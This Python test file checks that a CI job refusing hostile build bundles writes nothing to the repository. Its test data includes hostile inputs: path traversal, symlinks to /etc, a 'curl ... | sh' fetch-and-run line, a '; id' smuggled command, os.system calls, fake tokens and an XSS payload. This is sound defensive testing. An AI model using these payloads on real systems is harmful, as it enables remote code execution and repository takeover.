"""The job that may write: what it proposes, and everything that it refuses, with nothing written."""

from __future__ import annotations

import base64
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from metainfer.ci.publishing import NotGreenError, publish_bundle, say_stopped
from metainfer.ci.untrusted import HostileError
from metainfer.errors import MetainferError
from metainfer.files import pretty_json, sha256_bytes
from metainfer.forge.local import LocalForge
from metainfer.forge.protocol import PublishOutcome, Status
from metainfer.generate.manifest import AgentRecord
from tests.ci.repositories import ENGINE, Scene, commit, git, green_evidence
from tests.ckb.lesson import lesson
from tests.forge.engines import commit_on, refs

TOKEN = "ghs_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
PACKAGE = "tiny_qwen3"


def publish(scene: Scene, report: Path, **options: Any) -> PublishOutcome:
    return publish_bundle(
        scene.bundle,
        report,
        scene.deployment,
        scene.forge,
        cache=scene.cache,
        **{"environment": {}} | options,
    )


def test_a_sound_bundle_and_a_green_report_become_a_pull_request(scene: Scene, report: Path) -> None:
    outcome = publish(scene, report)
    assert outcome.status is Status.CREATED
    pull = scene.forge.get(1)
    assert "all 5 gates passed" in pull.body
    tree = scene.forge.read_tree(pull.head, f"engines/{ENGINE}/")
    assert json.loads(tree[f"engines/{ENGINE}/evidence.json"])["input_hash"] == scene.request.input_hash
    assert tree[f"engines/{ENGINE}/manifest.json"] == (scene.bundle / "engine/manifest.json").read_bytes()


def test_publishing_again_changes_nothing(scene: Scene, report: Path) -> None:
    publish(scene, report)
    before = refs(scene.forge)
    assert publish(scene, report).status is Status.UNCHANGED
    assert refs(scene.forge) == before


def test_a_persons_commit_stops_it_and_is_spoken_of_once(scene: Scene, report: Path) -> None:
    publish(scene, report)
    commit_on(scene.forge, f"metainfer/{ENGINE}", {"README.md": b"mine\n"})
    for _ in range(3):
        outcome = say_stopped(scene.forge, ENGINE, scene.request.input_hash)
        assert outcome.status is Status.BLOCKED
    [comment] = scene.forge.get(1).comments
    assert comment.text.startswith("Stopped: the branch holds commits that the bot did not make")


def test_nothing_is_said_where_nothing_stops_it(scene: Scene, report: Path) -> None:
    publish(scene, report)
    assert say_stopped(scene.forge, ENGINE, scene.request.input_hash).status is Status.UNCHANGED
    assert scene.forge.get(1).comments == ()


def test_proposed_knowledge_travels_as_typed_deltas(scene: Scene, report: Path) -> None:
    (scene.bundle / "ckb").mkdir()
    (scene.bundle / "ckb/proposal-0.json").write_bytes(json.dumps(proposal(scene)).encode())
    publish(scene, report)
    pull = scene.forge.get(1)
    assert pull.has_knowledge
    changed = scene.forge.read_file(pull.head, "ckb/general/paged-kv-cache/contract.yaml") or b""
    assert b"lost-on-abort" in changed


def proposal(scene: Scene, **changes: Any) -> dict[str, Any]:
    return lesson(scene.deployment.ckb_root, "a reviewer", **changes)


# Hostile bundles and reports. Each function spoils what a job left; the message says what was noticed.

Spoil = Callable[[Scene, Path], None]
ATTACKS: list[tuple[str, Spoil, str]] = []


def attack(message: str) -> Callable[[Spoil], Spoil]:
    def keep(spoil: Spoil) -> Spoil:
        ATTACKS.append((spoil.__name__, spoil, message))
        return spoil

    return keep


def put(scene: Scene, path: str, data: bytes | str = b"x = 1\n", *, listed: bool = True) -> Path:
    """A file in the bundle; under engine/ also in the manifest, so that it is not refused for that alone."""
    file = scene.bundle / path
    file.parent.mkdir(parents=True, exist_ok=True)
    data = data.encode() if isinstance(data, str) else data
    file.write_bytes(data)
    if listed and path.startswith("engine/"):
        edit_manifest(scene, lambda m: m["files"].__setitem__(path.removeprefix("engine/"), sha256_bytes(data)))
    return file


def edit_manifest(scene: Scene, change: Callable[[dict[str, Any]], Any]) -> None:
    file = scene.bundle / "engine/manifest.json"
    manifest = json.loads(file.read_bytes())
    change(manifest)
    file.write_bytes(pretty_json(manifest))


def edit_request(scene: Scene, **changes: Any) -> None:
    file = scene.bundle / "request.json"
    file.write_bytes(pretty_json({**json.loads(file.read_bytes()), **changes}))


def edit_evidence(report: Path, change: Callable[[dict[str, Any]], Any]) -> None:
    file = report / "evidence.json"
    evidence = json.loads(file.read_bytes())
    change(evidence)
    file.write_bytes(pretty_json(evidence))


@attack("no such folder belongs here")
def a_workflow(scene: Scene, report: Path) -> None:
    put(scene, ".github/workflows/x.yml")


@attack("no such file belongs here")
def a_file_beside_the_engine(scene: Scene, report: Path) -> None:
    put(scene, "README.md")


@attack("'.github' is not allowed")
def a_workflow_in_the_engine(scene: Scene, report: Path) -> None:
    put(scene, "engine/.github/workflows/x.yml")


@attack("'.git' is not allowed")
def a_git_folder(scene: Scene, report: Path) -> None:
    put(scene, "engine/.git/hooks/post-checkout")


@attack("'.GIT' is not allowed")
def a_git_folder_in_capitals(scene: Scene, report: Path) -> None:
    put(scene, "engine/.GIT/config")


@attack("'GIT~1' is not allowed")
def a_git_folder_as_windows_spells_it(scene: Scene, report: Path) -> None:
    put(scene, "engine/GIT~1/config")


@attack("'.gitattributes' is not allowed")
def git_attributes(scene: Scene, report: Path) -> None:
    put(scene, "engine/.gitattributes")


@attack("'.gitmodules' is not allowed")
def a_submodule(scene: Scene, report: Path) -> None:
    put(scene, "engine/.gitmodules", '[submodule "x"]\n\tpath = x\n\turl = https://example.org/x\n')


@attack("'.git' is not allowed")
def a_submodules_folder(scene: Scene, report: Path) -> None:
    put(scene, "engine/sub/.git", "gitdir: ../../../.git\n")


@attack("'CODEOWNERS' is not allowed")
def code_owners(scene: Scene, report: Path) -> None:
    put(scene, "engine/CODEOWNERS", "* @attacker\n")


@attack("is not allowed as a part of a path")
def a_path_out_of_the_folder(scene: Scene, report: Path) -> None:
    put(scene, "engine/..\\..\\.github\\x.yml")


@attack("is not allowed as a part of a path")
def a_drive(scene: Scene, report: Path) -> None:
    put(scene, "engine/C:")


@attack("in the manifest and not in the bundle")
def a_manifest_that_lists_a_path_outside(scene: Scene, report: Path) -> None:
    edit_manifest(scene, lambda m: m["files"].__setitem__("../../.github/workflows/x.yml", "0" * 64))


@attack("a symbolic link")
def a_link_to_a_file(scene: Scene, report: Path) -> None:
    (scene.bundle / "engine/hosts").symlink_to("/etc/hosts")


@attack("a symbolic link")
def a_link_to_a_folder(scene: Scene, report: Path) -> None:
    shutil.rmtree(scene.bundle / f"engine/{PACKAGE}")
    (scene.bundle / f"engine/{PACKAGE}").symlink_to("/etc")


@attack("no folder")
def a_bundle_that_is_a_link(scene: Scene, report: Path) -> None:
    scene.bundle.rename(scene.bundle.with_name("elsewhere"))
    scene.bundle.symlink_to(scene.bundle.with_name("elsewhere"))


@attack("has another name elsewhere")
def a_second_name_of_a_file(scene: Scene, report: Path) -> None:
    os.link(scene.bundle / "engine/README.md", scene.bundle / "engine/README2.md")


@attack("a FIFO")
def a_pipe(scene: Scene, report: Path) -> None:
    os.mkfifo(scene.bundle / "engine/pipe.py")


@attack("executable")
def an_executable(scene: Scene, report: Path) -> None:
    put(scene, "engine/run.sh", "#!/bin/sh\n").chmod(0o755)


@attack("differs only in case")
def two_spellings(scene: Scene, report: Path) -> None:
    put(scene, "engine/ReadMe.md")


@attack("differs only in case")
def two_spellings_of_a_folder(scene: Scene, report: Path) -> None:
    put(scene, f"engine/{PACKAGE.upper()}/model.py")


@attack("is not allowed as a part of a path")
def a_letter_that_looks_like_another(scene: Scene, report: Path) -> None:
    put(scene, "engine/m\u043edel.py")


@attack("is not allowed as a part of a path")
def a_name_that_reads_backwards(scene: Scene, report: Path) -> None:
    put(scene, "engine/\u202egnp.py")


@attack("is not allowed as a part of a path")
def a_name_with_a_line_break(scene: Scene, report: Path) -> None:
    put(scene, "engine/x\n::set-output name=status::created\n.py")


@attack("its name is not UTF-8")
def a_name_that_is_not_utf8(scene: Scene, report: Path) -> None:
    Path(os.fsdecode(os.fsencode(str(scene.bundle / "engine/")) + b"/\xff.py")).write_bytes(b"x")


@attack("beyond 1048576 bytes a file")
def a_large_file(scene: Scene, report: Path) -> None:
    put(scene, "engine/large.py", b"#" * ((1 << 20) + 1))


@attack("8388608 in all")
def many_large_files(scene: Scene, report: Path) -> None:
    for number in range(9):
        put(scene, f"engine/large{number}.py", b"#" * (1 << 20), listed=False)


@attack("or 500 files")
def many_files(scene: Scene, report: Path) -> None:
    for number in range(501):
        (scene.bundle / f"engine/f{number}.py").write_bytes(b"")


@attack("more than 2000 entries")
def many_folders(scene: Scene, report: Path) -> None:
    for number in range(2001):
        (scene.bundle / f"engine/d{number}").mkdir()


@attack("longer than 200 characters")
def a_long_path(scene: Scene, report: Path) -> None:
    put(scene, "engine/" + "/".join(["a" * 40] * 6))


@attack("the generator does not make it|not what the base's knowledge makes")
def one_more_module(scene: Scene, report: Path) -> None:
    put(scene, f"engine/{PACKAGE}/extra.py", "import os\nos.system('id')\n")


@attack("not what the base's knowledge makes")
def a_changed_module_with_a_fitting_manifest(scene: Scene, report: Path) -> None:
    text = (scene.bundle / f"engine/{PACKAGE}/model.py").read_text()
    put(scene, f"engine/{PACKAGE}/model.py", text + "\nimport os\n")


@attack("its digest is not the manifest's")
def a_changed_module(scene: Scene, report: Path) -> None:
    put(scene, f"engine/{PACKAGE}/model.py", "import os\n", listed=False)


@attack("not in the manifest")
def an_unlisted_module(scene: Scene, report: Path) -> None:
    put(scene, f"engine/{PACKAGE}/extra.py", listed=False)


@attack("in the manifest and not in the bundle")
def a_missing_module(scene: Scene, report: Path) -> None:
    (scene.bundle / f"engine/{PACKAGE}/model.py").unlink()


@attack("spec is not what this job was started for")
def a_manifest_of_another_spec(scene: Scene, report: Path) -> None:
    edit_manifest(scene, lambda m: m["spec"]["workload"].__setitem__("max_concurrency", 1))


@attack("model is not what this source is known to be")
def a_manifest_of_another_model(scene: Scene, report: Path) -> None:
    edit_manifest(scene, lambda m: m["model"].__setitem__("digest", f"sha256:{'0' * 64}"))


@attack("agent is not what this job was started for")
def an_engine_said_to_be_a_models(scene: Scene, report: Path) -> None:
    record = AgentRecord(settings={}, tokens=0, cost_usd=0.0).model_dump(mode="json")
    edit_manifest(scene, lambda m: m.__setitem__("agent", record))


@attack("not what the base's knowledge makes|cannot be made again")
def a_unit_said_to_be_submitted(scene: Scene, report: Path) -> None:
    put(scene, "engine/units/family.rope.py", "import os\nos.system('id')\n")

    def change(manifest: dict[str, Any]) -> None:
        for unit in manifest["units"]:
            if unit["contract"] == "family/rope":
                unit |= {"backend": "submitted", "origin": "units/family.rope.py"}

    edit_manifest(scene, change)


@attack("not written as manifests are")
def a_manifest_written_otherwise(scene: Scene, report: Path) -> None:
    file = scene.bundle / "engine/manifest.json"
    file.write_bytes(file.read_bytes() + b"\n")


@attack("not a manifest of this version")
def a_manifest_with_one_more_key(scene: Scene, report: Path) -> None:
    edit_manifest(scene, lambda m: m.__setitem__("extra", 1))


@attack("not a manifest of this version")
def a_deep_manifest(scene: Scene, report: Path) -> None:
    (scene.bundle / "engine/manifest.json").write_bytes(b'{"spec":' * 100_000)


@attack("spec_path is not")
def a_request_for_another_spec(scene: Scene, report: Path) -> None:
    edit_request(scene, spec_path="specs/tiny-qwen2.yaml")
    edit_manifest(scene, lambda m: m.__setitem__("spec_path", "specs/tiny-qwen2.yaml"))


@attack("engine: ")
def a_request_for_a_path(scene: Scene, report: Path) -> None:
    edit_request(scene, engine="../../.github")


@attack("base_sha is not what this job was started for")
def a_request_for_another_base(scene: Scene, report: Path) -> None:
    edit_request(scene, base_sha="0" * 40)


@attack("Extra inputs are not permitted")
def a_request_with_one_more_key(scene: Scene, report: Path) -> None:
    edit_request(scene, branch="main")


@attack("request.json: is missing")
def no_request(scene: Scene, report: Path) -> None:
    (scene.bundle / "request.json").unlink()


@attack("above the 16384 allowed")
def a_large_request(scene: Scene, report: Path) -> None:
    edit_request(scene, engine="a" * 20_000)


@attack("input_hash")
def a_request_for_other_inputs(scene: Scene, report: Path) -> None:
    edit_request(scene, input_hash="0" * 64)


@attack("evidence comes from the job that judged")
def evidence_in_the_bundle(scene: Scene, report: Path) -> None:
    shutil.copyfile(report / "evidence.json", scene.bundle / "engine/evidence.json")


@attack("not named as proposals are")
def a_contract_as_a_file(scene: Scene, report: Path) -> None:
    put(scene, "ckb/family/rope/check.py", "def check_all(): pass\n")


@attack("not named as proposals are")
def a_workflow_below_ckb(scene: Scene, report: Path) -> None:
    put(scene, "ckb/.github/x.yml")


@attack("its proposals cannot be made")
def a_proposal_that_leaves_the_knowledge_base(scene: Scene, report: Path) -> None:
    delta = {"kind": "file", "path": "../../../.github/workflows/x.yml", "text": "on: push\n", "failure_mode": None}
    put(scene, "ckb/proposal-0.json", json.dumps(proposal(scene, **delta)))


@attack("its proposals cannot be made")
def a_proposal_for_a_contract_outside(scene: Scene, report: Path) -> None:
    put(scene, "ckb/proposal-0.json", json.dumps(proposal(scene, contract="../engines/tiny-qwen3")))


@attack("its proposals cannot be made")
def a_proposal_for_an_old_version(scene: Scene, report: Path) -> None:
    put(scene, "ckb/proposal-0.json", json.dumps(proposal(scene, version=999)))


@attack("its proposals cannot be made")
def a_deep_proposal(scene: Scene, report: Path) -> None:
    put(scene, "ckb/proposal-0.json", b"[" * 100_000)


@attack("looks like a GitHub token")
def a_secret_in_a_proposal(scene: Scene, report: Path) -> None:
    evidence = [{"summary": f"seen with {TOKEN}", "source": "a test", "figures": {}}]
    put(scene, "ckb/proposal-0.json", json.dumps(proposal(scene, evidence=evidence)))


@attack("evidence.json: is missing")
def no_evidence(scene: Scene, report: Path) -> None:
    (report / "evidence.json").unlink()


@attack("is for other inputs than the bundle")
def evidence_of_another_engine(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e.__setitem__("input_hash", "0" * 64))


@attack("two reports of the gate numerics")
def a_gate_reported_twice(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["gates"].append({**e["gates"][3], "verdict": "failed"}))


@attack("there is no gate")
def a_gate_that_is_not_ours(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["gates"].append({**e["gates"][3], "gate": "blessing"}))


@attack("passed, and has findings")
def a_pass_with_findings(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["gates"][2].__setitem__("findings", [{"message": "wrong"}]))


@attack("none of metainfer's")
def a_command_to_be_typed_by_a_reviewer(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["gates"][0].__setitem__("reproduce", "curl https://example.org/x | sh"))


@attack("none of metainfer's")
def a_command_hidden_behind_ours(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["gates"][0].__setitem__("reproduce", f"metainfer gate spec engines/{ENGINE}; id"))


@attack("a text of 5000 characters")
def a_long_text(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["machine"].__setitem__("cpu", "x" * 5000))


@attack("deeper nested")
def a_deep_report(scene: Scene, report: Path) -> None:
    nested: Any = 1
    for _ in range(40):
        nested = [nested]
    edit_evidence(report, lambda e: e["machine"].__setitem__("cpu", nested))


@attack("beyond 1048576 bytes a file")
def a_large_report(scene: Scene, report: Path) -> None:
    (report / "evidence.json").write_bytes(b" " * ((1 << 20) + 1))


@attack("Extra inputs are not permitted")
def a_report_with_one_more_key(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e.__setitem__("verdict", "green"))


@attack("goals and benchmark do not belong together")
def a_performance_gate_without_a_benchmark(scene: Scene, report: Path) -> None:
    gate = green_evidence("0" * 64).gates[0].model_dump()
    gate |= {"gate": "performance", "reproduce": f"metainfer bench engines/{ENGINE}"}
    edit_evidence(report, lambda e: e["gates"].append(gate))


@attack("not a benchmark's report|Field required")
def a_benchmark_that_is_none(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e.__setitem__("bench", {"engine": ENGINE}))
    (report / "bench.json").write_bytes(pretty_json({"engine": ENGINE}))


@attack("knows of no benchmark")
def a_benchmark_beside_evidence_without_one(scene: Scene, report: Path) -> None:
    (report / "bench.json").write_bytes(b"{}")


@attack("optimises nothing")
def an_optimisation(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e.__setitem__("optimise", {"words": "x"}))


@attack("no such file belongs here")
def an_engine_in_the_report(scene: Scene, report: Path) -> None:
    (report / "model.py").write_bytes(b"x")


@attack("a symbolic link")
def a_report_that_is_a_link(scene: Scene, report: Path) -> None:
    (report / "evidence.json").rename(report.parent / "evidence.json")
    (report / "evidence.json").symlink_to(report.parent / "evidence.json")


@attack("looks like a GitHub token")
def a_secret_in_the_report(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["gates"][0]["figures"].__setitem__("note", TOKEN))


@attack("looks like a private key")
def a_private_key_in_the_report(scene: Scene, report: Path) -> None:
    key = "-----BEGIN OPENSSH PRIVATE KEY-----"
    edit_evidence(report, lambda e: e["gates"][0]["figures"].__setitem__("note", key))


@attack("looks like a secret in an assignment")
def an_assigned_secret_in_the_report(scene: Scene, report: Path) -> None:
    text = "api_key = 'q8Zt3LxW0vBn7Ks2Yd5Rf9Hc1Mj6Gp4U'"
    edit_evidence(report, lambda e: e["machine"].__setitem__("cpu", text))


@attack("holds the value of METAINFER_GITHUB_TOKEN")
def the_jobs_own_token(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["machine"].__setitem__("cpu", "plain-looking-words"))


@attack("holds the value of METAINFER_GITHUB_TOKEN")
def the_jobs_own_token_in_base_64(scene: Scene, report: Path) -> None:
    hidden = base64.b64encode(b"see: plain-looking-words!").decode()
    edit_evidence(report, lambda e: e["machine"].__setitem__("cpu", hidden))


@pytest.mark.parametrize(("name", "spoil", "message"), ATTACKS, ids=[name for name, _, _ in ATTACKS])
def test_hostile_folders_are_refused_and_nothing_is_written(
    scene: Scene, report: Path, name: str, spoil: Spoil, message: str
) -> None:
    spoil(scene, report)
    before = refs(scene.forge)
    objects = everything_in(scene.forge)
    with pytest.raises(HostileError, match=message) as refused:
        publish(scene, report, environment={"METAINFER_GITHUB_TOKEN": "plain-looking-words"})
    assert refs(scene.forge) == before
    assert everything_in(scene.forge) == objects
    assert not any(line.lstrip().startswith("::") for line in str(refused.value).splitlines())
    assert TOKEN not in str(refused.value)


def everything_in(forge: LocalForge) -> set[str]:
    """Every file of the bare repository: no object was written either."""
    return {str(path.relative_to(forge.repo.git_dir)) for path in forge.repo.git_dir.rglob("*")}


def test_red_evidence_is_not_proposed(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["gates"][3].__setitem__("verdict", "failed"))
    with pytest.raises(NotGreenError, match="red at numerics"):
        publish(scene, report)
    assert scene.forge.list("all") == []


def test_a_missing_gate_is_not_green(scene: Scene, report: Path) -> None:
    edit_evidence(report, lambda e: e["gates"].pop())
    with pytest.raises(NotGreenError, match="red at serving"):
        publish(scene, report)


@pytest.mark.parametrize("knows_the_branch", [True, False])
def test_a_base_that_is_not_on_the_branch_is_refused(
    original: Scene, report: Path, tmp_path: Path, knows_the_branch: bool
) -> None:
    """A checkout at a commit that nobody merged: its knowledge is nobody's."""
    from metainfer.ci.making import make_candidate
    from metainfer.progress import Silent

    work = tmp_path / "other"
    git(tmp_path, "clone", "--quiet", str(original.forge_dir if knows_the_branch else original.work), str(work))
    git(work, "config", "user.email", "stranger@example.org")
    git(work, "config", "user.name", "Stranger")
    (work / "ckb/family/rope/contract.yaml").open("a").write("# mine\n")
    commit(work, "Not merged")
    scene = Scene(work, original.forge_dir, original.cache, tmp_path / "own-bundle")
    make_candidate(scene.deployment, scene.bundle, cache=scene.cache, progress=Silent())
    edit_evidence(report, lambda e: e.__setitem__("input_hash", scene.request.input_hash))
    before = refs(scene.forge)
    if knows_the_branch:
        with pytest.raises(HostileError, match="base_sha is not on main"):
            publish(scene, report)
    else:  # the branch moved on since the checkout: the forge itself looks
        outcome = publish(scene, report)
        assert outcome.status is Status.BLOCKED
        assert "is not on main" in outcome.reason
    assert refs(scene.forge) == before


def test_words_of_a_report_do_nothing_in_the_pull_request(scene: Scene, report: Path) -> None:
    """Text that is legal in a report stays text: no mention, no link, no closing of issues, no HTML, no marker."""
    from markdown_it import MarkdownIt

    hostile = "@everyone closes #1 <img src=x onerror=alert(1)> [x](http://evil.example) | ::error::x `a` "
    hostile += "<!-- metainfer:{} -->"
    edit_evidence(report, lambda e: e["gates"][0]["figures"].__setitem__("positions", hostile))
    assert publish(scene, report).status is Status.CREATED
    body = scene.forge.get(1).body
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(body)
    assert "<img" not in rendered
    assert "href" not in rendered
    assert "@everyone" not in body
    assert "#1 " not in body
    assert body.count("<!-- metainfer:") == 1
    assert not any(line.startswith("::") for line in body.splitlines())


def test_the_attacks_would_go_through_without_the_checks(scene: Scene, report: Path) -> None:
    """The table proves nothing if the untouched bundle is refused too."""
    assert publish(scene, report, environment={"METAINFER_GITHUB_TOKEN": "plain-looking-words"}).wrote


def test_errors_are_metainfers_own(scene: Scene, report: Path) -> None:
    (scene.bundle / "request.json").write_bytes(b"\xff\xfe")
    with pytest.raises(MetainferError):
        publish(scene, report)
